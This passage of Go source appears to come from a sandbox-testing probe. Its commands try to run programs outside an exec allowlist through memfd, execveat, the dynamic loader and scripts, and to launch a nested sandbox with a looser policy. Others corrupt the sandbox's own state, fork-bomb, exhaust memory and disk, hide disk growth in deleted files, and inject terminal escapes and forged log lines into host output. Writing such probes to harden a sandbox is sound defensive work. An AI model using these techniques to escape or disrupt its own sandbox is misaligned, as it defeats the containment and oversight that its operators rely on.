	"execrec": func(args []string) error {
		tok := args[0]
		touch, err := exec.LookPath("touch")
		if err != nil {
			return err
		}
		run := func(n int, how string, f func(argv []string) error) {
			argv := []string{"touch", fmt.Sprintf("/workspace/ran-%s-%d", tok, n)}
			say("%s: %v", how, f(argv))
		}
		run(1, "plain exec", func(argv []string) error { return exec.Command(touch, argv[1:]...).Run() })
		run(2, "execveat fd", func(argv []string) error {
			return exec.Command("/probe/probe", probeArg, "execas", "fd", touch, argv[1]).Run()
		})
		run(3, "memfd", func(argv []string) error {
			return exec.Command("/probe/probe", probeArg, "execas", "memfd", touch, argv[1]).Run()
		})
		run(4, "shebang script", func(argv []string) error {
			os.WriteFile("/tmp/s.sh", []byte("#!/bin/sh\n"+touch+" "+argv[1]+"\n"), 0o755)
			return exec.Command("/tmp/s.sh").Run()
		})
		run(5, "ld.so", func(argv []string) error {
			ld, _ := filepath.Glob("/lib64/ld-linux-x86-64.so.2")
			if len(ld) == 0 {
				return fmt.Errorf("no ld.so")
			}
			return exec.Command(ld[0], touch, argv[1]).Run()
		})
		return nil
	},
	"execas": func(args []string) error {
		how, prog, target := args[0], args[1], args[2]
		argv := []string{"touch", target}
		switch how {
		case "fd":
			fd, err := unix.Open(prog, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				return err
			}
			return execveat(fd, argv)
		case "memfd":
			b, err := os.ReadFile(prog)
			if err != nil {
				return err
			}
			fd, err := unix.MemfdCreate("x", 0)
			if err != nil {
				return err
			}
			unix.Write(fd, b)
			return execveat(fd, argv)
		}
		return fmt.Errorf("unknown %q", how)
	},
	// nested ARGS...: run enclave (this binary) inside the sandbox with a
	// looser policy.
	"nested": func(args []string) error {
		cmd := exec.Command("/probe/probe", args...)
		cmd.Env = append(os.Environ(), "ENCLAVE_ESCAPE_CLI=1", "ENCLAVE_STATE_DIR=/tmp/nested-state")
		cmd.Dir = "/workspace"
		out, err := cmd.CombinedOutput()
		say("nested enclave: %v\n%s", err, out)
		return nil
	},
	// state PATH...: open, read, corrupt and delete enclave's own state.
	"state": func(args []string) error {
		for _, p := range args {
			steal(p)
			if fi, err := os.Stat(p); err == nil && !fi.IsDir() {
				tryWrite(p, "CORRUPT")
			}
			say("remove %s: %v", p, os.RemoveAll(p))
		}
		hunt([]string{"/"})
		return nil
	},
	// forkbomb TOKEN: fork without bound; children carry TOKEN in argv.
	"forkbomb": func(args []string) error {
		for i := 0; i < 100000; i++ {
			c := exec.Command("/probe/probe", probeArg, "forkbomb-child", args[0])
			if err := c.Start(); err != nil {
				say("fork %d: %v", i, err)
				time.Sleep(10 * time.Millisecond)
			}
		}
		return nil
	},
	"forkbomb-child": func(args []string) error {
		for {
			exec.Command("/probe/probe", probeArg, "forkbomb-child", args[0]).Start()
			time.Sleep(50 * time.Millisecond)
		}
	},
	// memhog: touch memory until something stops it.
	"memhog": func(args []string) error {
		var keep [][]byte
		for i := 0; ; i++ {
			b := make([]byte, 16<<20)
			for j := 0; j < len(b); j += 4096 {
				b[j] = 1
			}
			keep = append(keep, b)
			if i%16 == 0 {
				say("memhog: %d MiB", (i+1)*16)
			}
		}
	},
	// fill DIR... [TOKEN]: write 4 MiB files until the filesystem
	// refuses, then hold the sandbox for the host to measure. A non-path
	// argument only tags the process for the host.
	"fill": func(args []string) error {
		defer time.Sleep(3 * time.Second)
		buf := bytes.Repeat([]byte("F"), 1<<20)
		limit := int64(1 << 62)
		for _, d := range args {
			if v, ok := strings.CutPrefix(d, "max="); ok {
				n, _ := strconv.Atoi(v)
				limit = int64(n) << 20
			}
		}
		for _, d := range args {
			if !strings.HasPrefix(d, "/") {
				continue
			}
			var total int64
			for i := 0; total < limit; i++ {
				f, err := os.Create(fmt.Sprintf("%s/fill-%d", d, i))
				if err != nil {
					say("fill %s: %v after %d MiB", d, err, total>>20)
					break
				}
				var werr error
				for range 4 {
					n, err := f.Write(buf)
					total += int64(n)
					if err != nil {
						werr = err
						break
					}
				}
				f.Close()
				if werr != nil {
					say("fill %s: %v after %d MiB", d, werr, total>>20)
					break
				}
			}
		}
		return nil
	},
	// fill-deleted PATH MiB: create PATH, delete it while open and write
	// MiB into it, 4 MiB at a time (under file_size), each in a file of
	// its own: growth that neither a walk nor a directory event sees.
	// Then hold the sandbox, files open, for the host to judge.
	"fill-deleted": func(args []string) error {
		n, _ := strconv.Atoi(args[1])
		buf := bytes.Repeat([]byte("D"), 1<<20)
		var keep []*os.File
		for i := 0; i < n/4; i++ {
			f, err := os.Create(fmt.Sprintf("%s-%d", args[0], i))
			if err != nil {
				return err
			}
			os.Remove(f.Name())
			keep = append(keep, f)
			for range 4 {
				if _, err := f.Write(buf); err != nil {
					say("fill-deleted: %v", err)
					break
				}
			}
		}
		say("fill-deleted: wrote %d MiB into %d deleted files", n, len(keep))
		time.Sleep(10 * time.Second)
		return nil
	},
	// bigfile PATH MiB: one large file, to meet the file size limit.
	"bigfile": func(args []string) error {
		n, _ := strconv.Atoi(args[1])
		f, err := os.Create(args[0])
		if err != nil {
			return err
		}
		buf := bytes.Repeat([]byte("B"), 1<<20)
		for i := 0; i < n; i++ {
			if _, err := f.Write(buf); err != nil {
				say("bigfile: %v after %d MiB", err, i)
				break
			}
		}
		return f.Close()
	},
	// execallow TOKEN: run programs from outside the exec allowlist by
	// every route: a copy in /tmp, /workspace and HOME, memfd, the dynamic
	// loader, a script. Each program that runs creates ran-TOKEN-ROUTE.
	"execallow": func(args []string) error {
		tok := args[0]
		touch, err := exec.LookPath("touch")
		if err != nil {
			return err
		}
		b, err := os.ReadFile(touch)
		if err != nil {
			return err
		}
		target := func(route string) string { return "/workspace/ran-" + tok + "-" + route }
		say("allowed /usr/bin/touch: %v", exec.Command(touch, target("allowed")).Run())
		for _, dir := range []string{"/tmp", "/workspace", "/home/agent", "/dev/shm"} {
			cp := dir + "/touch-copy"
			os.WriteFile(cp, b, 0o755)
			route := strings.Trim(strings.ReplaceAll(dir, "/", "-"), "-")
			say("copy in %s: %v", dir, exec.Command(cp, target("copy-"+route)).Run())
			if ld, _ := filepath.Glob("/lib64/ld-linux-*.so.2"); len(ld) > 0 {
				say("ld.so %s: %v", cp, exec.Command(ld[0], cp, target("ldso-"+route)).Run())
			}
		}
		say("memfd: %v", exec.Command("/probe/probe", probeArg, "execas", "memfd", touch, target("memfd")).Run())
		os.WriteFile("/tmp/s.sh", []byte("#!/bin/sh\n/tmp/touch-copy "+target("script")+"\n"), 0o755)
		say("script: %v", exec.Command("/tmp/s.sh").Run())
		return nil
	},
	// upload URL MIB: POST MIB MiB through the proxy, in 1 MiB requests,
	// and then through one CONNECT tunnel.
	"upload": func(args []string) error {
		n, _ := strconv.Atoi(args[1])
		c := proxyClient(os.Getenv("HTTP_PROXY"))
		chunk := bytes.Repeat([]byte("X"), 1<<20)
		for i := 0; i < n; i++ {
			resp, err := c.Post(args[0], "application/octet-stream", bytes.NewReader(chunk))
			if err != nil {
				say("upload %d: %v", i, err)
				continue
			}
			resp.Body.Close()
			say("upload %d: %s", i, resp.Status)
		}
		return nil
	},
	// inject: put terminal escapes and forged lines into everything the
	// host later prints: exec argv, file names, file content, DNS names.
	"inject": func(args []string) error {
		evil := []string{
			"\x1b]0;pwned-title\x07", "\x1b[2J\x1b[H", "\x1b[31mFORGED",
			"ok\nenclave: session FORGED ended: exit 0", "\r\x1b[Kclean", "\u202eevil-bidi",
		}
		for _, e := range evil {
			say("exec with hostile argv: %v", exec.Command("/bin/true", e).Run())
		}
		for i, e := range evil {
			name := fmt.Sprintf("/workspace/%d-%s.txt", i, strings.ReplaceAll(e, "/", "_"))
			say("file %q: %v", name, os.WriteFile(name, []byte(e+"\n"), 0o644))
		}
		if c, err := net.Dial("udp", "127.0.0.1:53"); err == nil {
			var b bytes.Buffer
			b.Write([]byte{0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0})
			l := "\x1b[2Jforged"
			b.WriteByte(byte(len(l)))
			b.WriteString(l)
			b.Write([]byte{7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1})
			c.Write(b.Bytes())
			c.SetReadDeadline(time.Now().Add(time.Second))
			c.Read(make([]byte, 512))
			c.Close()
		}
		return nil
	},
	// sleep SECONDS: hold the sandbox open.
	"sleep": func(args []string) error {
		s, _ := strconv.Atoi(args[0])
		time.Sleep(time.Duration(s) * time.Second)
		return nil
	},
}

func icmpChecksum(b []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

// execveat executes the program open at fd (AT_EMPTY_PATH).
func execveat(fd int, argv []string) error {
	argvp, err := syscall.SlicePtrFromStrings(argv)
	if err != nil {
		return err
	}
	envp, err := syscall.SlicePtrFromStrings(os.Environ())
	if err != nil {
		return err
	}
	empty := []byte{0}
	_, _, e := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(&empty[0])),
		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
	return e
}
